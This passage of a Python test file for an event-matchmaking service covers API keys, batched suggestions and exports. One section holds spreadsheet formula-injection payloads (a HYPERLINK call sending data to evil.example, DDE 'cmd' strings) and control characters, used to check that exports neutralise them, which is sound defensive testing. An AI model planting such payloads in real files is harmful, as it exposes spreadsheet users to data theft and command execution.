    recs = client.get(f"/events/{eid}/recommendations?k=2", headers=tn1).json()
    assert recs and {r["participant"] for r in recs} == {"tn-1"}
    for role in ("reader", "editor"):
        assert client.get(f"/events/{eid}/participants/tn-1/agenda", headers=h[role]).status_code == 403


def test_participant_keys_need_an_event_and_a_profile(catalogue: Catalogue) -> None:
    from storage.keys import create_key, identify

    with pytest.raises(ValueError, match="needs an event and a profile"):
        create_key(catalogue.engine, "participant", event_id=1)
    with pytest.raises(ValueError, match="only a participant key"):
        create_key(catalogue.engine, "organiser", profile_id="tn-1")
    with pytest.raises(ValueError, match="only organiser and participant keys"):
        create_key(catalogue.engine, "reader", event_id=1)
    info = identify(catalogue.engine, create_key(catalogue.engine, "participant", event_id=3, profile_id="tn-1"))
    assert info is not None and (info.role, info.event_id, info.profile_id) == ("participant", 3, "tn-1")


def test_cli_participant_key_for_a_registered_participant(monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str], svc: EventService,
                                                          tmp_path: Path) -> None:
    keys = cli_invoker(monkeypatch, capsys, "keys")
    eid = str(make_event(svc))
    db = str(tmp_path / "events.db")
    code, _, err = keys("create", "--role", "participant", "--event", eid, "--profile", "de-1", "--db", db)
    assert code == 2 and f"'de-1' is not a participant of event {eid}" in err
    code, _, err = keys("create", "--role", "participant", "--event", eid, "--db", db)
    assert code == 2 and "needs an event and a profile" in err
    assert keys("create", "--role", "participant", "--event", "99", "--profile", "tn-1", "--db", db)[0] == 2
    code, out, _ = keys("create", "--role", "participant", "--event", eid, "--profile", "tn-1", "--db", db)
    assert code == 0 and out.startswith("cci_")
    code, out, _ = keys("list", "--db", db)
    assert code == 0 and "participant active" in out and f"event {eid}, participant tn-1" in out


# --- batched suggestions (the event path) on a synthetic catalogue, no encoder -----------------
def _no_encoder() -> FakeEncoder:
    raise AssertionError("the synthetic catalogue must never need an encoder")


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> tuple[Catalogue, list[str]]:
    from bench.synthetic import build_synthetic_db
    from storage.db import open_database

    db = tmp_path_factory.mktemp("synthetic") / "syn.db"
    ids = build_synthetic_db(db, 400, model_id="synthetic-test-32", seed=3, dim=32)
    cat = Catalogue(engine=open_database(db), index_dir=db.with_name("syn.index"), model_id="synthetic-test-32",
                    encoder_factory=_no_encoder)
    return cat, ids


def test_synthetic_catalogue_suggests_without_an_encoder(synthetic: tuple[Catalogue, list[str]]) -> None:
    cat, ids = synthetic
    assert ids == sorted(ids) and len(ids) == 400
    found = suggest(cat, ids[7], k=10)
    assert len(found.suggestions) == 10 and all(s.country != found.query["country"] for s in found.suggestions)


def test_suggest_many_equals_one_suggest_per_participant(synthetic: tuple[Catalogue, list[str]]) -> None:
    cat, ids = synthetic
    event = ids[::4]  # 100 participants
    everyone = frozenset(event)
    batch = suggest_many(cat, event, k=10, constraints=Constraints(only_ids=everyone), allow_same_country=True)
    assert list(batch) == event
    for pid in event:
        one = suggest(cat, pid, k=10, constraints=Constraints(only_ids=everyone - {pid}), allow_same_country=True)
        got = batch[pid]
        assert [s.id for s in got.suggestions] == [s.id for s in one.suggestions], pid
        assert [s.reason for s in got.suggestions] == [s.reason for s in one.suggestions], pid
        assert np.allclose([s.score for s in got.suggestions], [s.score for s in one.suggestions], atol=1e-6, rtol=0)
        assert (got.eligible, got.cap_relaxed) == (one.eligible, one.cap_relaxed)


def test_suggest_many_with_constraints_and_k_per_asker(synthetic: tuple[Catalogue, list[str]]) -> None:
    cat, ids = synthetic
    wanted = {ids[0]: frozenset(ids[10:60]), ids[1]: frozenset(ids[50:53]), "no-such-id": frozenset(ids[:5])}
    batch = suggest_many(cat, list(wanted), k={v: min(len(w), 100) for v, w in wanted.items()},
                             constraints={v: Constraints(only_ids=w) for v, w in wanted.items()},
                             allow_same_country=True)
    assert set(batch) == {ids[0], ids[1]}  # unknown ids are left out
    for viewer in (ids[0], ids[1]):
        one = suggest(cat, viewer, k=min(len(wanted[viewer]), 100), constraints=Constraints(only_ids=wanted[viewer]),
                          allow_same_country=True)
        assert [(s.id, round(s.score, 6)) for s in batch[viewer].suggestions] == [
            (s.id, round(s.score, 6)) for s in one.suggestions]


def test_solver_reasons_name_requests_and_profiles() -> None:
    """The solver's structured reasons (0-based indexes) come back with profile ids, request ids and slot
    numbers, in fields a page can translate and in English."""
    from matcher.scheduling import Reason
    from service.events.scheduling import _fields, _words

    ids, requests = ["tn-1", "fr-1", "it-1"], [10, 11]
    why = Reason(family="fixed", kind="no_slot", participants=(0, 2), meetings=(1,), slots=(3,), detail="either")
    assert _words(why, ids, requests) == (
        "fixed: request 11 (participants 'tn-1' and 'it-1') has no allowed slot (session either, fixed slot 4)")
    assert _fields(why, ids, requests) == {"family": "fixed", "kind": "no_slot", "participants": ("tn-1", "it-1"),
                                           "requests": (11,), "slots": (4,), "families": (), "counts": (),
                                           "detail": "either"}
    lower = Reason(family="priority", kind="lower_priority", participants=(0, 1), meetings=(0, 1))
    assert _words(lower, ids, [7, 9]) == "lower priority than requests [7, 9] of the same participants"
    assert why.text == "fixed: meeting 2 (participants 1 and 3) has no allowed slot (session either, fixed slot 4)"


# --- hostile and careless input (issue 13) -----------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed =1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def stored_as_is(catalogue: Catalogue, **names: str) -> None:
    """Rename profiles straight in the database, as an older version (without text checks) may have stored them."""
    from dataclasses import replace

    from storage import repository as repo

    changed = [replace(p, name=names[p.id]) for p in repo.load_profiles(catalogue.engine) if p.id in names]
    repo.write_profiles(catalogue.engine, changed, model_id=catalogue.model_id, vectors={})


def all_cells(folder: Path) -> list[tuple[str, object]]:
    """(file, value) of every cell of every CSV and Excel file under ``folder``; Excel formulas as ('formula', ...)."""
    import csv

    import openpyxl

    cells: list[tuple[str, object]] = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells += [(path.name, v) for row in csv.reader(f) for v in row]
    for path in sorted(folder.rglob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for c in row:
                    value = ("formula", c.value) if c.data_type == "f" else c.value
                    cells.append((f"{path.name}:{sheet.title}", value))
    return cells


def test_exports_neutralise_formulas_and_stored_control_characters(svc: EventService, catalogue: Catalogue,
                                                                    tmp_path: Path) -> None:
    """Problems 1 and 3: no cell that ccimatch writes starts a formula; stored control characters never break
    an export, and the .ics files parse and carry none."""
    import icalendar

    stored_as_is(catalogue, **{"tn-1": FORMULAS[0], "fr-1": FORMULAS[1], "it-1": "Cuivres\x07 & Maisons\x00",
                               "ma-1": "\u202eseméS\x1b[31m", "lb-1": FORMULAS[2], "es-1": FORMULAS[3]})
    eid = make_event(svc, tables=2)
    for a, b, message in [("tn-1", "fr-1", FORMULAS[4]), ("tn-1", "it-1", "@here"), ("ma-1", "lb-1", FORMULAS[5]),
                          ("es-1", "it-1", "-1")]:
        r = ev.request(svc, eid, a, b, message=message.strip() if message.startswith("\t") else message.lstrip("\r"))
        ev.accept(svc, r.id, as_organiser=True)
    assert ev.schedule(svc, eid, time_limit=5).held == 4
    files = ev.export(svc, eid, tmp_path / "out", now=datetime(2026, 11, 30, 12, 0, tzinfo=UTC))
    cells = all_cells(tmp_path / "out")
    assert len(cells) > 100 and {name for name, _ in cells} >= {"grid.csv", "summary.csv", "tn-1.csv",
                                                                "grid.xlsx:grid", "grid.xlsx:participants"}
    formulas = [(f, v) for f, v in cells if isinstance(v, tuple)]
    assert formulas == []
    leading = [(f, v) for f, v in cells if isinstance(v, str) and v.startswith(DANGEROUS)]
    assert leading == []
    controls = [(f, v) for f, v in cells if isinstance(v, str) and re.search("[\x00-\x08\x0b-\x1f\x7f\u202e]", v)]
    assert controls == []
    names = {v for _, v in cells if isinstance(v, str)}
    assert "'" + FORMULAS[0] in names and "'" + FORMULAS[1] in names  # kept readable, neutralised
    assert any("Cuivres\ufffd & Maisons\ufffd" in v for v in names)
    for ics in (f for f in files if f.suffix == ".ics"):
        raw = ics.read_bytes()
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw), ics.name
        assert "\u202e".encode() not in raw
        cal = icalendar.Calendar.from_ical(raw)
        assert all(str(ev["SUMMARY"]).startswith("Meeting with") for ev in cal.walk("VEVENT"))
    tn1 = icalendar.Calendar.from_ical((tmp_path / "out" / "agendas" / "tn-1.ics").read_bytes())
    assert {str(ev["SUMMARY"]) for ev in tn1.walk("VEVENT")} == {f"Meeting with {FORMULAS[1]}",
                                                                 "Meeting with Cuivres\ufffd & Maisons\ufffd"}


def test_export_is_all_or_nothing(svc: EventService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Problem 3: an export that fails half-way leaves no folder (or the previous export untouched)."""
    import service.events.exports as module

    eid = scheduled_event(svc)
    tmp_path = tmp_path / "exports"
    tmp_path.mkdir()
    out = tmp_path / "out"

    def broken(*_: object, **__: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(module, "write_xlsx", broken)
    with pytest.raises(OSError, match="disk full"):
        ev.export(svc, eid, out)
    assert not out.exists() and list(tmp_path.iterdir()) == []
    monkeypatch.undo()
    first = ev.export(svc, eid, out)
    assert all(f.exists() for f in first)
    monkeypatch.setattr(module, "write_xlsx", broken)
    with pytest.raises(OSError):
        ev.export(svc, eid, out)  # the previous export stays whole
    assert sorted(p.name for p in out.iterdir()) == ["agendas", "grid.csv", "grid.xlsx", "summary.csv",
                                                     "table_use.csv"]
    assert sorted(tmp_path.iterdir()) == [out]
    monkeypatch.undo()
    assert ev.export(svc, eid, out) == first  # a new export replaces an old one
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.docx").write_text("precious")
    with pytest.raises(ValueError, match="not a ccimatch export"):
        ev.export(svc, eid, tmp_path / "mine")
    assert (tmp_path / "mine" / "thesis.docx").read_text() == "precious"


def test_event_texts_refuse_control_characters(svc: EventService) -> None:
    """Problem 3: event names, venues and request messages name the field and the code point."""
    with pytest.raises(ValueError, match=r"field 'name'.*U\+0007"):
        ev.create_event(svc, name="CAT\x07", venue="", timezone="Africa/Tunis", plan=plan(), tables=2,
                        participants=rows())
    with pytest.raises(ValueError, match=r"field 'venue'.*U\+202E"):
        ev.create_event(svc, name="CAT", venue="Kram\u202e", timezone="Africa/Tunis", plan=plan(), tables=2,
                         participants=rows())
    eid = make_event(svc)
    with pytest.raises(ValueError, match=r"field 'message'.*U\+0000"):
        ev.request(svc, eid, "tn-1", "fr-1", message="bonjour\x00")
    sent = ev.request(svc, eid, "tn-1", "fr-1", message="Bonjour,\r\nà demain\tà 9 h")
    assert sent.message == "Bonjour,\nà demain\tà 9 h"
    with pytest.raises(InvalidFieldsError) as exc:
        ev.import_requests(svc, eid, [{"from_id": "ma-1", "to_id": "it-1", "message": "\x1b[2J"}])
    assert exc.value.errors[0].field == "message" and "U+001B" in exc.value.errors[0].reason


def test_past_events_are_refused_unless_allowed(svc: EventService, run, tmp_path: Path) -> None:
    """Problem 6: days before today (in the event's timezone) need allow_past."""
    past = plan(days=(date(1900, 1, 1),))
    with pytest.raises(ValueError, match=r"field 'days' = '1900-01-01': in the past .*allow-past"):
        ev.create_event(svc, name="Old fair", venue="", timezone="Africa/Tunis", plan=past, tables=2,
                        participants=rows())
    eid = ev.create_event(svc, name="Old fair", venue="", timezone="Africa/Tunis", plan=past, tables=2,
                           participants=rows(), allow_past=True)
    assert ev.event(svc, eid).slots[0].start.year == 1900
    today = datetime.now(UTC).date()
    assert make_event(svc, plan=plan(days=(today + timedelta(days=1),)))
    people = tmp_path / "people.csv"
    pd.DataFrame(rows()).to_csv(people, index=False)
    code, _, err = run("create", "Old", "--participants", str(people), "--days", "2001-05-01")
    assert code == 2 and "in the past" in err and "--allow-past" in err
    code, out, _ = run("create", "Old", "--participants", str(people), "--days", "2001-05-01", "--allow-past")
    assert code == 0 and out.strip().isdigit()


def test_api_refuses_past_events_and_participant_keys_cannot_probe_requests(api) -> None:
    """Problems 5 and 6 over HTTP: allow_past=true imports a past event; a participant key gets the same 404
    for another participant's request as for a request that does not exist."""
    from storage.keys import create_key

    client, h = api
    old = EVENT_BODY | {"days": ["1900-01-01"]}
    r = client.post("/events", json=old, headers=h["organiser"])
    assert r.status_code == 422 and "in the past" in r.json()["detail"][0]["msg"]
    assert client.post("/events?allow_past=true", json=old, headers=h["organiser"]).status_code == 201
    eid = client.post("/events", json=EVENT_BODY, headers=h["organiser"]).json()["id"]
    engine = client.app.state.catalogue.engine
    tn1 = {"X-API-Key": create_key(engine, "participant", event_id=eid, profile_id="tn-1")}
    theirs = client.post(f"/events/{eid}/requests", json={"from_id": "ma-1", "to_id": "it-1"},
                         headers=h["organiser"]).json()["id"]
    for action in ("accept", "decline", "cancel"):
        other = client.post(f"/events/{eid}/requests/{theirs}/{action}", json={}, headers=tn1)
        missing = client.post(f"/events/{eid}/requests/999999/{action}", json={}, headers=tn1)
        assert other.status_code == missing.status_code == 404
        assert other.json()["detail"].replace(str(theirs), "N") == missing.json()["detail"].replace("999999", "N")
        assert "it-1" not in other.text and "ma-1" not in other.text


def test_error_wording(api, svc: EventService) -> None:
    """Problem 9: balanced quotes, one error per problem."""
    client, h = api
    eid = client.post("/events", json=EVENT_BODY, headers=h["organiser"]).json()["id"]
    r = client.get(f"/events/{eid}/participants/nope/agenda", headers=h["organiser"])
    assert r.status_code == 404 and r.json()["detail"] == f"'nope' is not a participant of event {eid}"
    r = client.post("/events/0/schedule", headers=h["organiser"])
    assert r.status_code == 422 and len(r.json()["detail"]) == 1
